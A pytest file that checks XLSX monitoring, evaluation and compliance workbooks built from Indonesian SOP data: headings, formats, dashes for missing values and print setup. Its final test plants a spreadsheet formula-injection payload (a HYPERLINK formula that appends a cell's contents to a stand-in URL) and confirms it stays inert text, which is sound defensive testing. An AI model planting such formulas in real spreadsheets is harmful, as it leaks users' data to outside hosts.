"""The monitoring form, the evaluation form and the compliance report as XLSX, read back with
openpyxl: the regulation's headings, real numbers and dates with their formats, "–" where
nothing was measured, frozen and repeated heading rows, and the print set-up for F4 and A4."""

from __future__ import annotations

import datetime as dt
import io
from dataclasses import replace
from typing import Any

import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from sopbot.documents.monitoring_xlsx import (
    compliance_xlsx,
    evaluation_form_xlsx,
    monitoring_form_xlsx,
)
from sopbot.engine.monitoring import ProcedureLine
from tests.helpers import monitoring_values
from tests.helpers.monitoring_values import LIST_HEADINGS, WITA
from tests.helpers.monitoring_values import LIST_STATES as STATES

PAPER_CODES = {"F4": 14, "A4": 9}  # Excel: 14 Folio (8.5 x 13 in), 9 A4
MONITORING_HEADINGS = [
    "No.",
    "Prosedur",
    "Penilaian Terhadap Penerapan",
    "Catatan Hasil Penilaian",
    "Tindakan yang Harus Diambil",
    "Paraf Penilai",
]


def workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def row_of(sheet: Worksheet, first_value: object, column: int = 1) -> int:
    """The first row whose cell in `column` holds the value."""
    for row in range(1, sheet.max_row + 1):
        if sheet.cell(row=row, column=column).value == first_value:
            return row
    raise AssertionError(f"no row starts with {first_value!r}")


def pictures(sheet: object) -> int:
    """How many pictures a sheet holds."""
    assert isinstance(sheet, Worksheet)
    return len(sheet._images)  # type: ignore[attr-defined]  # where openpyxl keeps them


def values(sheet: Worksheet, row: int) -> list[Any]:
    return [sheet.cell(row=row, column=c).value for c in range(1, sheet.max_column + 1)]


def assert_printable(sheet: Worksheet, paper: str, *, landscape: bool) -> None:
    setup = sheet.page_setup
    assert setup.paperSize == PAPER_CODES[paper]
    assert setup.orientation == ("landscape" if landscape else "portrait")
    assert sheet.sheet_properties.pageSetUpPr is not None
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)
    assert sheet.page_margins.left >= 0.5
    assert sheet.print_title_rows
    assert sheet.freeze_panes


@pytest.mark.parametrize("paper", ["F4", "A4"])
def test_the_monitoring_form_sheet(paper: str) -> None:
    form = monitoring_values.monitoring_form(0)
    sheet = workbook(monitoring_form_xlsx(form, paper))["Monitoring"]  # type: ignore[arg-type]
    assert sheet["A1"].value == monitoring_values.AGENCY.upper()
    assert sheet["A2"].value == "MONITORING PELAKSANAAN SOP AP"
    heading = row_of(sheet, "No.")
    assert values(sheet, heading)[:6] == MONITORING_HEADINGS
    assert sheet.cell(row=heading, column=7).value == "Data pelaksanaan (diukur oleh sopbot)"
    assert sheet.cell(row=heading + 1, column=7).value == "Mutu Baku (Waktu)"
    numbers = values(sheet, heading + 2)
    assert numbers == [f"({n})" for n in range(1, 15)]
    first = heading + 3
    assert sheet.freeze_panes == f"A{first}"
    assert sheet.print_title_rows == f"${heading}:${heading + 2}"
    assert_printable(sheet, paper, landscape=True)

    for offset, step in enumerate(form.sop.steps):
        row = values(sheet, first + offset)
        time = step.time
        assert row[0] == step.step_label
        assert row[1] == f"{step.activity}\nPelaksana: {', '.join(step.executors)}"
        assert row[2] == "☐ Berjalan dengan baik\n☐ Tidak berjalan dengan baik"
        assert row[3:6] == [None, None, None], "the assessor's columns stay empty"
        assert row[6] == step.standard
        assert row[7:10] == [time.measured, time.on_time, pytest.approx(time.on_time_share)]
        assert time.median_seconds is not None
        assert time.p90_seconds is not None
        assert row[10] == pytest.approx(time.median_seconds / 3600, abs=1e-4)
        assert row[11] == pytest.approx(time.p90_seconds / 3600, abs=1e-4)
        assert row[12:] == [step.repeated_runs, step.open_late]
    cells = sheet[f"H{first}:L{first}"][0]
    assert [cell.number_format for cell in cells] == [
        "#,##0",
        "#,##0",
        "0.0%",
        '#,##0.00 "jam"',
        '#,##0.00 "jam"',
    ]
    total = row_of(sheet, "Seluruh langkah", column=2)
    assert total == first + len(form.sop.steps)
    assert values(sheet, total)[7:9] == [200, 169]
    assert sheet.cell(row=total, column=8).font.bold
    labels = [
        (cell.row, cell.value)
        for row in sheet.iter_rows(min_row=total + 1)
        for cell in row
        if cell.value in ("Penilai", "Nama", "NIP", "Tanda tangan", "Tanggal")
    ]
    assert [value for _, value in labels] == ["Penilai", "Nama", "NIP", "Tanda tangan", "Tanggal"]
    name_row = labels[1][0]
    lines = [
        get_column_letter(column)
        for column in range(1, sheet.max_column + 1)
        if sheet.cell(row=name_row, column=column).border.bottom.style == "thin"
    ]
    assert sum(float(sheet.column_dimensions[letter].width or 0) for letter in lines) >= 28


def test_nothing_measured_is_a_dash_in_the_sheet_not_zero() -> None:
    form = monitoring_values.monitoring_form(monitoring_values.NOTHING_MEASURED)
    sheet = workbook(monitoring_form_xlsx(form))["Monitoring"]
    first = row_of(sheet, "No.") + 3
    for offset in range(len(form.sop.steps) + 1):  # the steps and the total
        row = values(sheet, first + offset)
        assert row[7] == 0
        assert row[8:12] == ["–", "–", "–", "–"]


@pytest.mark.parametrize("paper", ["F4", "A4"])
def test_the_evaluation_form_sheets(paper: str) -> None:
    figures = monitoring_values.evaluation_figures(0)
    book = workbook(evaluation_form_xlsx(figures, paper))  # type: ignore[arg-type]
    assert book.sheetnames == ["Evaluasi", "Angka pendukung"]
    sheet = book["Evaluasi"]
    heading = row_of(sheet, "No.")
    assert values(sheet, heading)[:5] == [
        "No.",
        "Kriteria Penilaian",
        "Penilaian",
        "Catatan Hasil Penilaian",
        "Tindakan yang Harus Diambil",
    ]
    criteria = [sheet.cell(row=heading + 3 + n, column=2).value for n in range(7)]
    assert criteria[0] == "Mampu mendorong peningkatan kinerja"
    assert criteria[6] == "Sinergi satu dengan lainnya"
    for n in range(7):
        row = values(sheet, heading + 3 + n)
        assert row[2] == "☐ Ya\n☐ Tidak"
        assert row[3:5] == [None, None]
        assert row[5]
    assert_printable(sheet, paper, landscape=True)
    numbers = book["Angka pendukung"]
    at = row_of(numbers, "Langkah sesuai Mutu Baku (%)")
    previous = figures.previous
    assert previous is not None
    assert values(numbers, at) == [
        "Langkah sesuai Mutu Baku (%)",
        pytest.approx(figures.sop.time.on_time_share),
        pytest.approx(previous.time.on_time_share),
    ]
    # How the runs were handled, in this period and in the previous one.
    for label, now, before in (
        ("Langkah dikembalikan (jawaban “tidak” atau “Kembalikan”)", 4, 6),
        ("Langkah dipindahkan admin", 3, 1),
        ("Langkah diserahkan oleh penerimanya", 5, 2),
        ("Dokumen keluaran diunggah", 57, 30),
    ):
        assert values(numbers, row_of(numbers, label)) == [label, now, before]
    assert_printable(numbers, paper, landscape=False)


@pytest.mark.parametrize("paper", ["F4", "A4"])
def test_the_compliance_workbook(paper: str) -> None:
    report = monitoring_values.compliance_report()
    book = workbook(compliance_xlsx(report, paper))  # type: ignore[arg-type]
    assert book.sheetnames == [
        "Ringkasan",
        "Per SOP",
        "Per langkah",
        "Per jabatan",
        "Per bulan",
        "Langkah paling lambat",
        "Daftar prosedur",
    ]
    summary = book["Ringkasan"]
    start = summary.cell(row=row_of(summary, "Periode awal"), column=2)
    assert start.value == dt.datetime.combine(dt.date(2026, 1, 1), dt.time())  # no zone
    assert start.number_format == "dd/mm/yyyy"
    made = summary.cell(row=row_of(summary, "Dibuat (WITA)"), column=2)
    assert made.value == dt.datetime.combine(dt.date(2027, 2, 1), dt.time(8, 30))  # WITA
    share = summary.cell(row=row_of(summary, "Langkah sesuai Mutu Baku (%)"), column=2)
    assert share.value == pytest.approx(report.time.on_time_share)
    assert share.number_format == "0.0%"

    months = book["Per bulan"]
    row_of(
        months,
        "Kolom prosedur menghitung prosedur menurut bulan dimulainya, dengan keadaannya pada "
        "akhir periode; kolom langkah menghitung langkah menurut bulan selesainya.",
    )
    first = row_of(months, "Bulan") + 1
    for offset, figures in enumerate(report.months):
        cell = months.cell(row=first + offset, column=1)
        assert cell.value == dt.datetime.combine(figures.month, dt.time())
        assert cell.number_format == "[$-421]mmmm yyyy"  # Indonesian month names
        row = values(months, first + offset)
        assert row[5] == figures.time.measured
        if figures.time.measured:
            assert row[7] == pytest.approx(figures.time.on_time_share)
        else:
            assert row[6:] == ["–", "–", "–", "–"]
    assert pictures(months) == 1

    steps = book["Per langkah"]
    first = row_of(steps, "SOP") + 1
    listed = [steps.cell(row=first + n, column=3).value for n in range(5)]
    assert listed == [step.activity for step in report.sops[0].steps[:5]]
    assert steps.max_row == first - 1 + sum(len(sop.steps) for sop in report.sops)

    slowest = book["Langkah paling lambat"]
    first = row_of(slowest, "No.") + 1
    step = report.slowest[0].step
    assert step.time.median_seconds is not None
    assert step.time.median_standard_seconds is not None
    excess = slowest.cell(row=first, column=8)
    assert excess.value == pytest.approx(
        (step.time.median_seconds - step.time.median_standard_seconds) / 3600, abs=1e-4
    )
    assert excess.number_format.startswith("+")
    for sheet in book.worksheets:
        wide = sheet.title in ("Per SOP", "Per langkah", "Langkah paling lambat", "Daftar prosedur")
        assert_printable(sheet, paper, landscape=wide)


def test_an_empty_period_gives_empty_tables_that_say_so() -> None:
    book = workbook(compliance_xlsx(monitoring_values.empty_report()))
    slowest = book["Langkah paling lambat"]
    row_of(
        slowest, "Tidak ada langkah yang diukur sedikitnya 5 kali dengan median melebihi Mutu Baku."
    )
    assert pictures(book["Per jabatan"]) == 0
    summary = book["Ringkasan"]
    share = summary.cell(row=row_of(summary, "Langkah sesuai Mutu Baku (%)"), column=2)
    assert share.value == "–"


def test_the_same_figures_make_the_same_workbook() -> None:
    report = monitoring_values.compliance_report()
    assert compliance_xlsx(report) == compliance_xlsx(report)


def test_an_unknown_paper_is_refused() -> None:
    with pytest.raises(ValueError, match="write one of F4, A4"):
        compliance_xlsx(monitoring_values.compliance_report(), "Legal")  # type: ignore[arg-type]


def local(moment: dt.datetime | None) -> object:
    """A moment as the sheet keeps it: Samarinda's wall clock, without the zone; "–" for none."""
    return "–" if moment is None else moment.astimezone(WITA).replace(tzinfo=None)


def hours(seconds: float | None) -> object:
    return "–" if seconds is None else pytest.approx(seconds / 3600, abs=1e-4)


def expected_values(line: ProcedureLine) -> list[object]:
    """A procedure's row in the sheet: real numbers and dates, "–" where there is none."""
    letter = line.letter
    day = letter.date if letter else None
    finished = line.working_seconds is not None
    return [
        line.number,
        line.title,
        letter.number if letter else "–",
        "–" if day is None else dt.datetime.combine(day, dt.time()),
        letter.sender if letter and letter.sender else "–",
        local(line.started_at),
        local(line.finished_at),
        STATES[line.state],
        hours(line.working_seconds),
        hours(line.standard_seconds if finished else None),
        line.late_steps,
        line.highest_round,
    ]


@pytest.mark.parametrize("paper", ["F4", "A4"])
def test_the_monitoring_form_lists_its_procedures_on_a_sheet_of_their_own(paper: str) -> None:
    form = monitoring_values.monitoring_form(0)
    book = workbook(monitoring_form_xlsx(form, paper))  # type: ignore[arg-type]
    assert book.sheetnames == ["Monitoring", "Daftar prosedur"]
    sheet = book["Daftar prosedur"]
    assert sheet["A1"].value == monitoring_values.AGENCY.upper()
    heading = row_of(sheet, "No.")
    assert values(sheet, heading) == LIST_HEADINGS
    first = heading + 1
    assert sheet.freeze_panes == f"A{first}"
    assert sheet.print_title_rows == f"${heading}:${heading}"
    assert_printable(sheet, paper, landscape=True)

    lines = form.sop.procedure_lines
    assert sheet.max_row == heading + len(lines)
    assert sheet.auto_filter.ref == f"A{heading}:L{heading + len(lines)}"  # to find a letter
    for offset, line in enumerate(lines):
        assert values(sheet, first + offset) == expected_values(line), line.number
    formats = [cell.number_format for cell in sheet[first]]
    assert formats[0] == "0"  # a procedure's number, not "1.250"
    assert formats[3] == "dd/mm/yyyy"
    assert formats[5:7] == ["dd/mm/yyyy hh:mm", "dd/mm/yyyy hh:mm"]
    assert formats[8:] == ['#,##0.00 "jam"', '#,##0.00 "jam"', "#,##0", "#,##0"]
    # A date and time in full, never "#####".
    assert (sheet.column_dimensions["F"].width or 0) >= 16
    # No letter: "–" in its three columns.
    assert values(sheet, first + 3)[2:5] == ["–", "–", "–"]
    # The form's notes and the assessor's signature stay on the form's sheet.
    assert "Tanda tangan" not in [c.value for row in sheet.iter_rows() for c in row]


def test_the_compliance_workbook_lists_every_procedure_with_its_sop() -> None:
    report = monitoring_values.compliance_report()
    sheet = workbook(compliance_xlsx(report))["Daftar prosedur"]
    heading = row_of(sheet, "No.")
    assert values(sheet, heading) == [LIST_HEADINGS[0], "SOP", *LIST_HEADINGS[1:]]
    listed = [(sop.name, line) for sop in report.sops for line in sop.procedure_lines]
    assert sheet.max_row == heading + len(listed) == heading + 140
    for offset, (name, line) in enumerate(listed, start=1):
        row = values(sheet, heading + offset)
        assert row == [line.number, name, *expected_values(line)[1:]], line.number


def test_the_workbook_lists_every_procedure_however_many() -> None:
    report = monitoring_values.compliance_report()
    report = replace(report, sops=(monitoring_values.sop_figures(0, procedures=301),))
    sheet = workbook(compliance_xlsx(report, charts={}))["Daftar prosedur"]
    first = row_of(sheet, "No.") + 1
    assert [sheet.cell(row=first + n, column=1).value for n in (0, 300)] == [101, 401]
    assert sheet.max_row == first + 300


def test_a_period_without_procedures_says_so_on_the_list_sheet() -> None:
    sheet = workbook(compliance_xlsx(monitoring_values.empty_report()))["Daftar prosedur"]
    row_of(sheet, "Tidak ada prosedur yang dimulai pada periode ini.")
    assert sheet.page_setup.paperSize == PAPER_CODES["F4"]


def test_peoples_text_stays_text_in_the_workbook() -> None:
    # A title that reads as a formula stays words (never a live formula in the auditor's
    # Excel), and a control character a workbook cannot hold is left out, not the report.
    form = monitoring_values.monitoring_form(0)
    first, *rest = form.sop.procedure_lines
    planted = '=HYPERLINK("http://example.invalid/?"&B5,"Lihat")'
    first = replace(first, title=planted + "\x1b[2J")
    form = replace(form, sop=replace(form.sop, procedure_lines=(first, *rest)))
    sheet = workbook(monitoring_form_xlsx(form))["Daftar prosedur"]
    cell = sheet.cell(row=row_of(sheet, "No.") + 1, column=2)
    assert cell.value == planted + "[2J"
    assert cell.data_type == "s"
